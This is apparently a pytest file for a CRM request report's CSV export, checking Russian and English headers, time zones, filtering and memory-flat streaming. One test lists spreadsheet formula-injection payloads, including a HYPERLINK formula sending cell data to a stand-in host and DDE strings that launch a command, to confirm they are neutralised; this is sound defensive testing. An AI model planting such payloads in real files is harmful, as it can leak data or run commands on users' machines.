"""The CSV export of the Raw data report: what opens in Excel, safely, and without loading every row."""
from __future__ import annotations

import csv
import io
import re
import tracemalloc
from datetime import datetime, timedelta, timezone

import sqlalchemy as sa

from core.reporting.csv_export import iter_requests_csv, safe_cell
from core.reporting.report import RequestFilter
from tests.helpers.report_data import add_request, add_requests_bulk, request_values, seed_catalog
from web.messages import translations_for

T0 = datetime(2026, 11, 23, 21, 30, tzinfo=timezone.utc)  # 2026-11-24 00:30 in Moscow


def export(services, account_id, flt=None, lang="ru", **kw) -> str:
    with services.session_factory() as session:
        return "".join(iter_requests_csv(session, account_id, flt, translations=translations_for(lang), **kw))


def parse(text: str, delimiter: str = ",") -> list[list[str]]:
    assert text.startswith("\ufeff")  # Excel reads UTF-8 Cyrillic only with the BOM
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


def test_headers_names_links_and_local_times(services, account_id):
    with services.session_factory() as session:
        cat = seed_catalog(session, services, account_id)
        row = add_request(session, account_id, cat.integration_id, T0, contact_name="Иван Петров", phone="+79151234567",
                          phone_raw="8 (915) 123-45-67", email="ivan@example.ru", channel="site_chat", origin=None, campaign_id=cat.campaign_id,
                          site_id=cat.site_id, source_id=cat.source_id, attribution="session", utm_source="yandex",
                          referrer="https://ya.ru/", entrance_page="https://shop.example.ru/?utm_source=yandex",
                          attribution_reason="сессия 42 найдена")
        session.commit()
    ru = parse(export(services, account_id))
    header, values = ru[0], dict(zip(ru[0], ru[1]))
    assert header[:3] == ["ID обращения", "Дата и время (Europe/Moscow)", "Канал"]
    assert "Рекламная кампания" in header and "Сделка в amoCRM" in header and len(ru) == 2
    assert values["ID обращения"] == str(row.id)
    assert values["Дата и время (Europe/Moscow)"] == "2026-11-24 00:30:00"
    assert values["Канал"] == "Онлайн-чат на сайте" and values["Атрибуция"] == "Сессия"
    assert values["Рекламная кампания"] == "Яндекс Директ" and values["Сайт"] == "Магазин"
    assert values["Источник"] == "Telegram-канал" and values["Интеграция"] == "Основной amoCRM"
    assert values["Сделка в amoCRM"] == f"https://shop.amocrm.ru/leads/detail/{row.amo_lead_id}"
    assert values["Контакт в amoCRM"] == f"https://shop.amocrm.ru/contacts/detail/{row.amo_contact_id}"
    assert values["utm_source"] == "yandex" and values["Причина атрибуции"] == "сессия 42 найдена"
    assert (values["Телефон"], values["Телефон как в amoCRM"]) == ("+79151234567", "8 (915) 123-45-67")

    en = parse(export(services, account_id, lang="en", tz="UTC", delimiter=";"), delimiter=";")
    values = dict(zip(en[0], en[1]))
    assert values["Date and time (UTC)"] == "2026-11-23 21:30:00"
    assert values["Channel"] == "Website chat" and values["Attribution"] == "Session" and values["Ad campaign"] == "Яндекс Директ"


def test_cells_that_a_spreadsheet_would_run_are_neutralised(services, account_id):
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"Нажмите")', "+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0",
               "\t=1+1", "\r=1+1"]
    with services.session_factory() as session:
        cat = seed_catalog(session, services, account_id)
        session.execute(sa.text("update campaigns set name = :n where id = :i"), {"n": "=1+1", "i": cat.campaign_id})
        for n, attack in enumerate(attacks):
            add_request(session, account_id, cat.integration_id, T0 + timedelta(minutes=n), contact_name=attack,
                        utm_campaign=attack, referrer=attack, entrance_page=attack, attribution_reason=attack,
                        campaign_id=cat.campaign_id)
        add_request(session, account_id, cat.integration_id, T0 - timedelta(days=1), contact_name="Анна-Мария",
                    email="a@b.ru", utm_campaign="summer-sale")
        session.commit()
    rows = parse(export(services, account_id, sort="created_at"))
    header = rows[0]
    name, utm, referrer, page, reason, campaign = (header.index(h) for h in (
        "Имя контакта", "utm_campaign", "Реферер", "Страница входа", "Причина атрибуции", "Рекламная кампания"))
    assert rows[1][name] == "Анна-Мария" and rows[1][utm] == "summer-sale"  # harmless text is left alone
    for attack, row in zip(attacks, rows[2:]):
        for column in (name, utm, referrer, page, reason):
            assert row[column] == "'" + attack, (attack, header[column])
        assert row[campaign] == "'=1+1"
    for row in rows:  # no cell at all starts a formula: what starts like one is only a number or a phone
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?[\d\s().,-]+", cell)
                       for cell in row)
    assert safe_cell(None) == "" and safe_cell(42) == "42"


def test_numbers_and_phones_are_written_as_they_are():
    """A value that is only a number or a phone cannot run as a formula: no apostrophe to clean up."""
    for plain in ("+79151234567", "+7 (915) 123-45-67", "-15", "-0,5", "+1.25"):
        assert safe_cell(plain) == plain
    for formula in ("+SUM(1,2)", "-2+3", "+1+cmd|' /C calc'!A0", "=1", "-", "+", "@1", "\t=1"):
        assert safe_cell(formula) == "'" + formula


def test_the_export_follows_the_filter_and_sort(services, account_id):
    with services.session_factory() as session:
        cat = seed_catalog(session, services, account_id)
        for n in range(5):
            add_request(session, account_id, cat.integration_id, T0 + timedelta(hours=n), contact_name=f"Клиент {n}",
                        channel="telegram" if n % 2 else "vk")
        session.commit()
    rows = parse(export(services, account_id, RequestFilter(channel="telegram"), sort="created_at"))
    assert [r[4] for r in rows[1:]] == ["Клиент 1", "Клиент 3"]


def _export_peak(services, account_id, flt, on_chunk=None) -> tuple[int, int, int]:
    """(chunks, lines, peak bytes of Python allocations) of one export."""
    chunks = lines = 0
    with services.session_factory() as session:
        for _ in iter_requests_csv(session, account_id, RequestFilter(date_till=T0 - timedelta(days=1))):
            pass  # warm SQLAlchemy's statement caches outside the measurement
        tracemalloc.start()
        try:
            for chunk in iter_requests_csv(session, account_id, flt, chunk_rows=1000):
                chunks += 1
                lines += chunk.count("\r\n")
                if on_chunk:
                    on_chunk(session, chunks)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
    return chunks, lines, peak


def test_twenty_thousand_rows_stream_with_flat_memory(services, account_id):
    """Not a timing test: the export comes out chunk by chunk from a server-side cursor with
    `yield_per`, never holding every row. Exporting 20 000 rows must not need more memory than
    exporting 2 000 (holding them all would take several times more)."""
    with services.session_factory() as session:
        cat = seed_catalog(session, services, account_id)
        long = "https://shop.example.ru/catalog/" + "x" * 300
        for start in range(0, 20_000, 5_000):
            add_requests_bulk(session, [request_values(
                account_id, cat.integration_id, T0 + timedelta(seconds=n), contact_name=f"Клиент {n}",
                phone=f"+7915{n:07d}", email=f"client{n}@example.ru", referrer=long, entrance_page=long,
                utm_source="yandex", utm_campaign="campaign-" + "y" * 100) for n in range(start, start + 5_000)])
        session.commit()

    executed, open_cursors = [], []

    def remember(conn, cursor, statement, parameters, context, executemany):
        executed.append(dict(context.execution_options))

    def count_server_cursors(session, chunk_number):
        if chunk_number == 2 and session.get_bind().dialect.name == "postgresql":
            open_cursors.append(session.connection().exec_driver_sql("select count(*) from pg_cursors").scalar())

    engine = services.session_factory.kw["bind"]
    sa.event.listen(engine, "before_cursor_execute", remember)
    try:
        small = _export_peak(services, account_id, RequestFilter(date_till=T0 + timedelta(seconds=1_999)))
        big = _export_peak(services, account_id, None, count_server_cursors)
    finally:
        sa.event.remove(engine, "before_cursor_execute", remember)

    assert small[1] == 2_001 and big[1] == 20_001  # the header and every request
    assert big[0] >= 21  # the header, then a chunk per 1000 rows
    assert any(options.get("yield_per") == 1000 and options.get("stream_results") for options in executed)
    if engine.dialect.name == "postgresql":  # the rows wait on the server, not in our memory
        assert open_cursors and open_cursors[0] >= 1
    assert big[2] < small[2] * 1.5, f"2 000 rows peaked at {small[2] / 2**20:.1f} MiB, 20 000 at {big[2] / 2**20:.1f} MiB"
